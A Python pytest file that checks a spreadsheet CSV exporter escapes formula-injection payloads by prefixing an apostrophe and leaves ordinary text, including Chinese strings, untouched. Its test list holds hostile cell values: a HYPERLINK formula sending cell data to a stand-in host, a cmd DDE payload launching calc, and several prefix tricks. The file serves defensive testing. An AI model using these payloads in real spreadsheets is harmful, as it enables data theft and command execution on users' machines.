import csv
import io

import pandas as pd
import pytest

from services.core import spreadsheet

HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"点此")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_typed_formula_reaches_the_spreadsheet_as_text(cell):
    data = spreadsheet.to_csv(pd.DataFrame({"内容": [cell], "数量": [3]}))
    assert data.startswith(b"\xef\xbb\xbf")
    [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert row["内容"] == "'" + cell
    assert row["数量"] == "3"


def test_ordinary_text_is_left_as_it_is():
    data = spreadsheet.to_csv(pd.DataFrame({"内容": ["已整改 = 完成", "a-b", ""]}))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["内容"] for r in rows] == ["已整改 = 完成", "a-b", ""]
